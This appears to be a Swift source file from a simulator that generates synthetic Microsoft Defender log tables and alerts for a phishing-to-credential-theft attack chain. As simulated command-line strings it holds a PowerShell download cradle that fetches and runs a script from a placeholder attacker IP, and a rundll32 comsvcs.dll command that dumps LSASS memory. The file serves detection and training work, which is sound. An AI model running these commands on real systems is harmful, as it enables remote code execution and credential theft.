import KustoTime
import OpenMTPModels

/// Attack chains woven into the simulated activity, each with the alerts Microsoft Defender would raise.
extension Simulator {
    static let attackerIP = "198.51.100.77"
    static let attackerDomain = "fabrikam-billing.test"
    static let payload = Binary(
        "updater.exe",
        in: #"C:\Users\Public\Libraries"#,
        company: "",
        product: "",
        description: ""
    )
    static let rundll32 = Binary(
        "rundll32.exe",
        in: Binaries.system32,
        product: "Microsoft® Windows® Operating System",
        description: "Windows host process (Rundll32)"
    )

    /// Phishing attachment → Word spawns a PowerShell download cradle → payload → C2 beaconing → LSASS dump.
    /// - Returns: the implant and the moment the credential dump ended, where the attack goes on from.
    mutating func attackChain(on device: SimulatedDevice, from desktop: SimulatedProcess, into day: inout DayBuilder) -> (SimulatedProcess, Int64) {
        let user = world.users[device.primaryUser]
        let account = SimulatedAccount(user, netbios: world.netbios)
        let victim = Victim(device: device, account: account)
        var time = desktop.created + Int64(random.int(600...1_800)) * DateTimeTicks.perSecond
        let messageId = random.guid()
        let attachment = Binary(
            "Invoice_4821.docm",
            in: #"C:\Users\\#(account.name)\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7GQ2KD1V"#,
            company: "",
            product: "",
            description: ""
        )
        let sender = "accounts@\(Self.attackerDomain)"

        // T1566.001: the mail with a macro document gets through.
        day.add(
            "EmailEvents",
            at: time,
            [
                ("NetworkMessageId", .string(messageId)), ("InternetMessageId", .string("<\(random.hex(16))@\(Self.attackerDomain)>")),
                ("SenderFromAddress", .string(sender)), ("SenderMailFromAddress", .string(sender)),
                ("SenderFromDomain", .string(Self.attackerDomain)),
                ("SenderMailFromDomain", .string(Self.attackerDomain)), ("SenderIPv4", .string(Self.attackerIP)),
                ("RecipientEmailAddress", .string(user.upn)),
                ("RecipientObjectId", .string(user.objectId)), ("Subject", .string("Overdue invoice #4821")), ("EmailDirection", .string("Inbound")),
                ("DeliveryAction", .string("Delivered")), ("DeliveryLocation", .string("Inbox/folder")), ("AttachmentCount", .int(1)),
                ("UrlCount", .int(0)),
                ("EmailLanguage", .string("en")), ("ReportId", .string(random.guid())),
            ]
        )
        day.add(
            "EmailAttachmentInfo",
            at: time,
            [
                ("NetworkMessageId", .string(messageId)), ("SenderFromAddress", .string(sender)), ("RecipientEmailAddress", .string(user.upn)),
                ("RecipientObjectId", .string(user.objectId)), ("FileName", .string(attachment.fileName)), ("FileType", .string("docm")),
                ("SHA256", .string(attachment.sha256)), ("FileSize", .int(attachment.size)), ("ReportId", .string(random.guid())),
            ]
        )
        time += Int64(random.int(120...900)) * DateTimeTicks.perSecond
        let outlook = launch(Binaries.outlook, "\"\(Binaries.outlook.path)\"", parent: desktop, at: time, on: victim, into: &day)
        day.add(
            "DeviceFileEvents",
            at: time + DateTimeTicks.perSecond,
            device: device,
            process: outlook,
            fileFields(attachment, action: "FileCreated", device: device)
        )
        time += Int64(random.int(30...300)) * DateTimeTicks.perSecond
        let word = launch(
            Binaries.word,
            "\"\(Binaries.word.path)\" /n \"\(attachment.path)\" /o \"\"",
            parent: outlook,
            at: time,
            on: victim,
            into: &day
        )

        // T1059.001 + T1105: the macro starts a download cradle.
        time += Int64(random.int(3...20)) * DateTimeTicks.perSecond
        let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://\(Self.attackerIP)/a.ps1')\""
        let powershell = launch(Binaries.powershell, cradle, parent: word, at: time, on: victim, into: &day)
        for (offset, command) in ["New-Object", "DownloadString", "Invoke-Expression"].enumerated() {
            day.add(
                "DeviceEvents",
                at: time + Int64(offset + 1) * DateTimeTicks.perSecond,
                device: device,
                process: powershell,
                [
                    ("ActionType", .string("PowerShellCommand")), ("AdditionalFields", .string(#"{"Command":"\#(command)"}"#)),
                    ("ReportId", .int(reportId(device))),
                ]
            )
        }
        day.add(
            "DeviceNetworkEvents",
            at: time + 2 * DateTimeTicks.perSecond,
            device: device,
            process: powershell,
            connectionFields(device, port: 80, url: "http://\(Self.attackerIP)/a.ps1")
        )
        day.add(
            "DeviceFileEvents",
            at: time + 4 * DateTimeTicks.perSecond,
            device: device,
            process: powershell,
            fileFields(Self.payload, action: "FileCreated", device: device)
        )
        time += 6 * DateTimeTicks.perSecond
        let implant = launch(Self.payload, "\"\(Self.payload.path)\" -k netsvc", parent: powershell, at: time, on: victim, into: &day)

        // T1071.001: beaconing every minute, with jitter, for two hours.
        var beacon = time
        for _ in 0..<120 {
            beacon += Int64(random.int(50...70)) * DateTimeTicks.perSecond
            day.add(
                "DeviceNetworkEvents",
                at: beacon,
                device: device,
                process: implant,
                connectionFields(device, port: 443, url: "update-cdn.\(Self.attackerDomain)")
            )
        }

        // T1003.001: LSASS memory dumped through comsvcs.dll.
        time += Int64(random.int(900...2_400)) * DateTimeTicks.perSecond
        let lsassId = Int64(random.int(600...1_000)) * 4
        let dumpCommand = #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump \#(lsassId) C:\Users\Public\l.dmp full"#
        let dumper = launch(Self.rundll32, dumpCommand, parent: implant, at: time, on: victim, into: &day, integrity: "High")
        day.add(
            "DeviceEvents",
            at: time + DateTimeTicks.perSecond,
            device: device,
            process: dumper,
            [
                ("ActionType", .string("OpenProcessApiCall")), ("FileName", .string("lsass.exe")),
                ("FolderPath", .string(#"C:\Windows\System32\lsass.exe"#)), ("ProcessId", .int(lsassId)), ("ReportId", .int(reportId(device))),
            ]
        )
        let dump = Binary("l.dmp", in: #"C:\Users\Public"#, company: "", product: "", description: "")
        day.add(
            "DeviceFileEvents",
            at: time + 3 * DateTimeTicks.perSecond,
            device: device,
            process: dumper,
            fileFields(dump, action: "FileCreated", device: device)
        )

        alert(
            "Suspicious email attachment delivered",
            category: "InitialAccess",
            techniques: ["Spearphishing Attachment (T1566.001)"],
            source: "Microsoft Defender for Office 365",
            detection: "MDO",
            severity: "Medium",
            at: outlook.created + 5 * 60 * DateTimeTicks.perSecond,
            evidence: [
                [
                    ("EntityType", .string("MailMessage")), ("EvidenceRole", .string("Impacted")), ("NetworkMessageId", .string(messageId)),
                    ("EmailSubject", .string("Overdue invoice #4821")),
                ],
                [
                    ("EntityType", .string("File")), ("EvidenceRole", .string("Impacted")), ("FileName", .string(attachment.fileName)),
                    ("SHA256", .string(attachment.sha256)),
                ],
                [
                    ("EntityType", .string("Mailbox")), ("EvidenceRole", .string("Impacted")), ("AccountUpn", .string(user.upn)),
                    ("AccountObjectId", .string(user.objectId)),
                ],
            ],
            into: &day
        )
        endpointAlert(
            "Suspicious PowerShell download cradle",
            category: "Execution",
            techniques: ["PowerShell (T1059.001)", "Ingress Tool Transfer (T1105)"],
            severity: "High",
            at: powershell.created + 30 * DateTimeTicks.perSecond,
            evidence: [
                processEvidence(powershell, device: device, role: "Related"), processEvidence(word, device: device, role: "Related"),
                [("EntityType", .string("Ip")), ("EvidenceRole", .string("Related")), ("RemoteIP", .string(Self.attackerIP))],
                machineEvidence(device), userEvidence(user, account: account),
            ],
            into: &day
        )
        endpointAlert(
            "Suspicious access to LSASS service memory",
            category: "CredentialAccess",
            techniques: ["LSASS Memory (T1003.001)"],
            severity: "High",
            at: dumper.created + 20 * DateTimeTicks.perSecond,
            evidence: [processEvidence(dumper, device: device, role: "Impacted"), machineEvidence(device), userEvidence(user, account: account)],
            into: &day
        )
        return (implant, time + 5 * DateTimeTicks.perSecond)
    }

    // MARK: Pieces

    /// Where the attack runs: the victim's device and account.
    struct Victim {
        let device: SimulatedDevice
        let account: SimulatedAccount
    }

    mutating func launch(
        _ binary: Binary,
        _ commandLine: String,
        parent: SimulatedProcess,
        at time: Int64,
        on victim: Victim,
        into day: inout DayBuilder,
        integrity: String = "Medium"
    ) -> SimulatedProcess {
        start(binary, on: victim.device, at: time, as: victim.account, integrity: integrity, commandLine: commandLine, parent: parent, into: &day)
    }

    func fileFields(_ file: Binary, action: String, device: SimulatedDevice) -> [(String, JSONValue)] {
        [
            ("ActionType", .string(action)), ("FileName", .string(file.fileName)), ("FolderPath", .string(file.path)), ("SHA1", .string(file.sha1)),
            ("SHA256", .string(file.sha256)), ("MD5", .string(file.md5)), ("FileSize", .int(file.size)),
        ]
    }

    /// A successful outbound connection; to the attacker's server unless `remote` names an internal address.
    mutating func connectionFields(_ device: SimulatedDevice, port: Int64, url: String, to remote: String = attackerIP) -> [(String, JSONValue)] {
        [
            ("ActionType", .string("ConnectionSuccess")), ("RemoteIP", .string(remote)), ("RemotePort", .int(port)),
            ("RemoteUrl", .string(url)),
            ("LocalIP", .string(device.ip)), ("LocalPort", .int(Int64(random.int(49_152...65_000)))), ("Protocol", .string("Tcp")),
            ("LocalIPType", .string("Private")), ("RemoteIPType", .string(remote == Self.attackerIP ? "Public" : "Private")),
            ("ReportId", .int(reportId(device))),
        ]
    }

    func processEvidence(_ process: SimulatedProcess, device: SimulatedDevice, role: String) -> [(String, JSONValue)] {
        [
            ("EntityType", .string("Process")), ("EvidenceRole", .string(role)), ("FileName", .string(process.binary.fileName)),
            ("FolderPath", .string(process.binary.path)), ("SHA1", .string(process.binary.sha1)), ("SHA256", .string(process.binary.sha256)),
            ("FileSize", .int(process.binary.size)), ("ProcessCommandLine", .string(process.commandLine)), ("DeviceId", .string(device.deviceId)),
            ("DeviceName", .string(device.name)),
        ]
    }

    func machineEvidence(_ device: SimulatedDevice) -> [(String, JSONValue)] {
        [
            ("EntityType", .string("Machine")), ("EvidenceRole", .string("Impacted")), ("DeviceId", .string(device.deviceId)),
            ("DeviceName", .string(device.name)), ("LocalIP", .string(device.ip)),
        ]
    }

    func userEvidence(_ user: SimulatedUser, account: SimulatedAccount) -> [(String, JSONValue)] {
        [
            ("EntityType", .string("User")), ("EvidenceRole", .string("Impacted")), ("AccountName", .string(account.name)),
            ("AccountDomain", .string(account.domain)), ("AccountSid", .string(account.sid)), ("AccountObjectId", .string(user.objectId)),
            ("AccountUpn", .string(user.upn)),
        ]
    }

    /// An alert of Defender for Endpoint's EDR.
    mutating func endpointAlert(
        _ title: String,
        category: String,
        techniques: [String],
        severity: String,
        at time: Int64,
        evidence: [[(String, JSONValue)]],
        into day: inout DayBuilder
    ) {
        alert(
            title,
            category: category,
            techniques: techniques,
            source: "Microsoft Defender for Endpoint",
            detection: "EDR",
            severity: severity,
            at: time,
            evidence: evidence,
            into: &day
        )
    }

    /// An `AlertInfo` row and one `AlertEvidence` row per entity, sharing the alert's id, title and techniques.
    mutating func alert(
        _ title: String,
        category: String,
        techniques: [String],
        source: String,
        detection: String,
        severity: String,
        at time: Int64,
        evidence: [[(String, JSONValue)]],
        into day: inout DayBuilder
    ) {
        let alertId = (detection == "MDO" ? "fa" : "da") + random.hex(16) + "_" + String(random.int(100_000_000...999_999_999))
        let techniqueList = JSONValue.array(techniques.map(JSONValue.string)).serialized
        let shared: [(String, JSONValue)] = [
            ("AlertId", .string(alertId)), ("Title", .string(title)), ("ServiceSource", .string(source)), ("DetectionSource", .string(detection)),
            ("AttackTechniques", .string(techniqueList)),
        ]
        day.add("AlertInfo", at: time, shared + [("Category", .string(category)), ("Severity", .string(severity))])
        for entity in evidence {
            day.add("AlertEvidence", at: time, shared + [("Categories", .string(#"["\#(category)"]"#)), ("Severity", .string(severity))] + entity)
        }
    }
}
